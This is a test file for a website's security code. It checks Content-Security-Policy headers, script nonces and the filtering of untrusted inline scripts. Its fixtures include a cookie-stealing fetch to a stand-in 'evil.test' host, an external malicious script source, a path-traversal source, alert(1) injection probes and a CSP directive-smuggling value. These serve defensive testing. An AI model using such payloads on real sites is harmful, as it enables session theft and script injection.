import http from 'node:http'
import type { AddressInfo } from 'node:net'
import zlib from 'node:zlib'

import { describe, expect, it } from 'vitest'

import { cspHostsRefresher, currentCspHosts, parseCspHosts } from '../../src/server/secure-answer.mjs'
import { createNonceRewriter, gzippedPageWithNonce, pageWithNonce, preparePage } from '../../src/server/nonce-html.mjs'
import {
  contentSecurityPolicy,
  mayBeLivePreview,
  NONCE_PLACEHOLDER,
  securityHeaders,
  takesNonce,
} from '../../src/server/security-headers.mjs'
import {
  createScriptNoncer,
  isReactRuntimeScript,
  reactRuntimeDefinitions,
  stampTrustedScripts,
} from '../../src/server/trusted-scripts.mjs'

const base = { path: '/', nonce: 'bm9uY2U=', framedByAdmin: false, https: false, reportOnly: false }
/** The directives of a policy as a map of name to sources. */
const directives = (policy: string) =>
  Object.fromEntries(policy.split('; ').map((part) => [part.split(' ')[0], part.split(' ').slice(1)]))

describe('securityHeaders', () => {
  it('sets the fixed headers on every answer', () => {
    const headers = securityHeaders(base)
    expect(headers).toMatchObject({
      'X-Content-Type-Options': 'nosniff',
      'Referrer-Policy': 'strict-origin-when-cross-origin',
      'X-Frame-Options': 'DENY',
    })
    expect(headers['Permissions-Policy']).toContain('geolocation=(self)')
    for (const feature of ['camera=()', 'microphone=()', 'payment=()', 'usb=()']) expect(headers['Permissions-Policy']).toContain(feature)
  })

  it('public pages: scripts only with the nonce (no unsafe-inline, no eval), framed by nobody', () => {
    const csp = directives(contentSecurityPolicy(base))
    expect(csp['script-src']).toEqual(["'nonce-bm9uY2U='", "'strict-dynamic'", "'self'"])
    expect(csp['frame-ancestors']).toEqual(["'none'"])
    expect(csp['object-src']).toEqual(["'none'"])
    expect(csp['base-uri']).toEqual(["'self'"])
    expect(csp['upgrade-insecure-requests']).toBeUndefined()
  })

  const framing: Array<[string, Partial<typeof base>, string, string]> = [
    ['a public page', {}, "'none'", 'DENY'],
    ['a page in the live preview (staff or draft mode)', { framedByAdmin: true }, "'self'", 'SAMEORIGIN'],
    ['the admin', { path: '/admin/collections/vehicles' }, "'self'", 'SAMEORIGIN'],
  ]
  it.each(framing)('frame-ancestors of %s', (_name, change, ancestors, xfo) => {
    const headers = securityHeaders({ ...base, ...change })
    expect(directives(headers['Content-Security-Policy'])['frame-ancestors']).toEqual([ancestors])
    expect(headers['X-Frame-Options']).toBe(xfo)
  })

  it('the admin allows its inline scripts but no other origin and no nonce', () => {
    const csp = directives(contentSecurityPolicy({ ...base, path: '/admin' }))
    expect(csp['script-src']).toEqual(["'self'", "'unsafe-inline'"])
    expect(csp['connect-src']).toEqual(["'self'"])
    // The code editor's workers (blob: URLs loading the site's scripts) in the admin only.
    expect(csp['worker-src']).toEqual(["'self'", 'blob:'])
    expect(directives(contentSecurityPolicy(base))['worker-src']).toBeUndefined()
  })

  it('HSTS and upgrade-insecure-requests only over HTTPS', () => {
    expect(securityHeaders(base)['Strict-Transport-Security']).toBeUndefined()
    const https = securityHeaders({ ...base, https: true })
    expect(https['Strict-Transport-Security']).toBe('max-age=31536000; includeSubDomains')
    expect(directives(https['Content-Security-Policy'])['upgrade-insecure-requests']).toEqual([])
  })

  it('report-only mode sends the policy under the report-only header', () => {
    const headers = securityHeaders({ ...base, reportOnly: true })
    expect(headers['Content-Security-Policy']).toBeUndefined()
    expect(headers['Content-Security-Policy-Report-Only']).toContain("frame-ancestors 'none'")
  })

  it('third-party hosts enter only the directives they are given for', () => {
    const hosts = { scriptSrc: ['https://www.googletagmanager.com'], connectSrc: ['https://www.google-analytics.com'], imgSrc: ['https://www.facebook.com'] }
    const csp = directives(contentSecurityPolicy({ ...base, hosts }))
    expect(csp['script-src']).toContain('https://www.googletagmanager.com')
    expect(csp['connect-src']).toEqual(["'self'", 'https://www.google-analytics.com'])
    expect(csp['img-src']).toContain('https://www.facebook.com')
    expect(contentSecurityPolicy(base)).not.toContain('google')
  })

  it("the store map's host is framed only by the contact pages, English and Spanish", () => {
    for (const path of ['/contact-us', '/es/contact-us']) {
      expect(directives(contentSecurityPolicy({ ...base, path }))['frame-src'], path).toEqual([
        "'self'",
        'https://www.openstreetmap.org',
      ])
    }
    for (const path of ['/', '/es', '/service', '/our-company', '/admin', '/contact-us-today']) {
      expect(contentSecurityPolicy({ ...base, path }), path).not.toContain('openstreetmap')
    }
    // Only frames: no script, image or connection of the map's host on the contact page itself.
    const contact = directives(contentSecurityPolicy({ ...base, path: '/contact-us' }))
    for (const directive of ['script-src', 'img-src', 'connect-src']) expect(contact[directive].join(' ')).not.toContain('openstreetmap')
  })
})

describe('parseCspHosts', () => {
  it('keeps https origins only: a stored value must not smuggle a directive into the header', () => {
    expect(
      parseCspHosts({
        scriptSrc: ['https://www.googletagmanager.com', "'unsafe-inline'", 'https://x.test; script-src *'],
        connectSrc: ['https://*.google-analytics.com', 'http://plain.test'],
        imgSrc: 'https://www.facebook.com',
      }),
    ).toEqual({ scriptSrc: ['https://www.googletagmanager.com'], connectSrc: ['https://*.google-analytics.com'], imgSrc: [], frameSrc: [] })
    expect(parseCspHosts(null)).toEqual({ scriptSrc: [], connectSrc: [], imgSrc: [], frameSrc: [] })
  })
})

describe('cspHostsRefresher', () => {
  it('reads /csp-hosts when the cache epoch moves, and a page can wait for it', async () => {
    let answer = { scriptSrc: [] as string[], connectSrc: ['https://www.google-analytics.com'], imgSrc: [] as string[] }
    let reads = 0
    const server = http.createServer((_request, response) => {
      reads++
      response.setHeader('content-type', 'application/json')
      response.end(JSON.stringify(answer))
    })
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    try {
      let epoch = 1
      const refresher = cspHostsRefresher(`http://127.0.0.1:${(server.address() as AddressInfo).port}`, () => epoch)
      await refresher.check()
      expect(currentCspHosts().connectSrc).toEqual(['https://www.google-analytics.com'])
      // Nothing changed: no read, nothing to wait for.
      expect(refresher.check()).toBeNull()
      expect(reads).toBe(1)
      answer = { scriptSrc: [], connectSrc: [], imgSrc: ['https://www.facebook.com'] }
      epoch = 2
      await refresher.check()
      expect(currentCspHosts()).toMatchObject({ connectSrc: [], imgSrc: ['https://www.facebook.com'] })
      expect(reads).toBe(2)
    } finally {
      server.close()
    }
  })
})

describe('which answers get the nonce and the preview framing', () => {
  const cases: Array<[string | undefined, string, boolean]> = [
    ['GET', '/', true],
    ['GET', '/used-cars-for-sale/suvs', true],
    ['HEAD', '/contact-us', true],
    ['POST', '/contact-us', false],
    ['GET', '/api/health', false],
    ['GET', '/admin', false],
    ['GET', '/admin/login', false],
    ['GET', '/_next/static/chunks/main.js', false],
    ['GET', '/robots.txt', false],
    // The loopback endpoints the proxy and the server read: no pages, and never held back by the CSP refresh.
    ['GET', '/redirect-rules', false],
    ['GET', '/vehicle-status/1HGCM82633A004352', false],
    ['GET', '/csp-hosts', false],
    ['GET', '/builds/latest', false],
    ['GET', '/redirect-rules-of-the-road', true],
  ]
  it.each(cases)('%s %s → %s', (method, path, expected) => expect(takesNonce(method, path)).toBe(expected))

  it('live preview: the preview route, a staff session or draft mode', () => {
    expect(mayBeLivePreview('/next/preview', '')).toBe(true)
    expect(mayBeLivePreview('/', 'a=1; payload-token=x')).toBe(true)
    expect(mayBeLivePreview('/', '__prerender_bypass=y')).toBe(true)
    expect(mayBeLivePreview('/', 'allowCookies=all')).toBe(false)
  })
})

describe('nonce rewriting', () => {
  const html = `<html>${'a'.repeat(70_000)}<script nonce="${NONCE_PLACEHOLDER}">1</script>${'b'.repeat(3_000)}<script nonce="${NONCE_PLACEHOLDER}" src="/x.js"></script></html>`
  const expected = (nonce: string) => html.replaceAll(NONCE_PLACEHOLDER, nonce)

  it.each([1, 7, 33, 4096])('replaces placeholders split across chunks of %i bytes', (size) => {
    const rewriter = createNonceRewriter(NONCE_PLACEHOLDER, 'n0nce+/=')
    const bytes = Buffer.from(html)
    const out: Buffer[] = []
    for (let at = 0; at < bytes.length; at += size) out.push(rewriter.push(bytes.subarray(at, at + size)))
    out.push(rewriter.flush())
    expect(Buffer.concat(out).toString()).toBe(expected('n0nce+/='))
  })

  it('a stored page: plain and gzipped answers carry each answer’s nonce and gunzip to the page', () => {
    const page = preparePage(Buffer.from(html), NONCE_PLACEHOLDER)
    expect(pageWithNonce(page, 'first').toString()).toBe(expected('first'))
    const gzipped = gzippedPageWithNonce(page, 'second+/==')
    expect(zlib.gunzipSync(gzipped).toString()).toBe(expected('second+/=='))
    // Compressed once, not per answer: far smaller than the page.
    expect(gzipped.length).toBeLessThan(html.length / 20)
  })

  it('a page without a placeholder passes unchanged', () => {
    const page = preparePage(Buffer.from('<p>plain</p>'), NONCE_PLACEHOLDER)
    expect(zlib.gunzipSync(gzippedPageWithNonce(page, 'x')).toString()).toBe('<p>plain</p>')
  })
})

describe('trusted scripts of a prerendered page', () => {
  const definitions = reactRuntimeDefinitions()
  const runtime = definitions.find((definition) => definition.startsWith('$RB=[];'))
  const page = [
    '<link rel="preload" as="script" fetchPriority="low" href="/_next/static/chunks/webpack-1.js"/>',
    '<link rel="stylesheet" href="/_next/static/css/a.css"/>',
    `<script src="/_next/static/chunks/main.js" async="" nonce="${NONCE_PLACEHOLDER}"></script>`,
    '<script src="/_next/static/chunks/webpack-1.js" id="_R_" async=""></script>',
    '<script>requestAnimationFrame(function(){$RT=performance.now()});</script>',
    `<script>${runtime}$RC("B:0","S:0")</script>`,
    '<script>$RC("B:1","S:1")</script>',
    '<script type="application/ld+json">{"@type":"AutoDealer"}</script>',
    '<script>$RC("B:1","S:1");fetch("//evil.test/"+document.cookie)</script>',
    '<script>$RX=function(){alert(1)}</script>',
    '<script src="https://evil.test/x.js"></script>',
    '<script src="/_next/static/../../api/x"></script>',
  ].join('')

  it('reads React’s runtime definitions from the React build Next ships', () => {
    expect(runtime).toBeDefined()
    expect(definitions.length).toBeGreaterThanOrEqual(4)
  })

  it('stamps this build’s chunks and preloads and React’s runtime, nothing else', () => {
    const stamped = stampTrustedScripts(Buffer.from(page), NONCE_PLACEHOLDER, definitions).toString()
    const withNonce = [...stamped.matchAll(/<(script|link) nonce="[^"]+"[^>]*>([^<]{0,30})/g)].map((match) => match[0])
    // The preload, the bootstrap chunk and the three React runtime scripts (main.js had its nonce already).
    expect(withNonce).toHaveLength(5)
    expect(stamped).toContain(`<link nonce="${NONCE_PLACEHOLDER}" rel="preload" as="script"`)
    expect(stamped).toContain('<link rel="stylesheet"')
    for (const untrusted of ['<script type="application/ld+json">', '<script>$RC("B:1","S:1");fetch', '<script>$RX=function(){alert(1)}', '<script src="https://evil.test/x.js">', '<script src="/_next/static/../../api/x">'])
      expect(stamped).toContain(untrusted)
  })

  it.each([1, 3, 64])('gives the same result streamed in chunks of %i bytes', (size) => {
    const bytes = Buffer.from(page)
    const noncer = createScriptNoncer(NONCE_PLACEHOLDER, definitions)
    const out: Buffer[] = []
    for (let at = 0; at < bytes.length; at += size) out.push(noncer.push(bytes.subarray(at, at + size)))
    out.push(noncer.flush())
    expect(Buffer.concat(out).toString()).toBe(stampTrustedScripts(bytes, NONCE_PLACEHOLDER, definitions).toString())
  })

  it('tells React’s instructions from code', () => {
    expect(isReactRuntimeScript('$RC("B:3","S:3")', definitions)).toBe(true)
    expect(isReactRuntimeScript('$RX("B:2","NEXT_HTTP_ERROR_FALLBACK;404")', definitions)).toBe(true)
    expect(isReactRuntimeScript('$RC("B:3",alert(1))', definitions)).toBe(false)
    expect(isReactRuntimeScript('alert(1)', definitions)).toBe(false)
  })
})
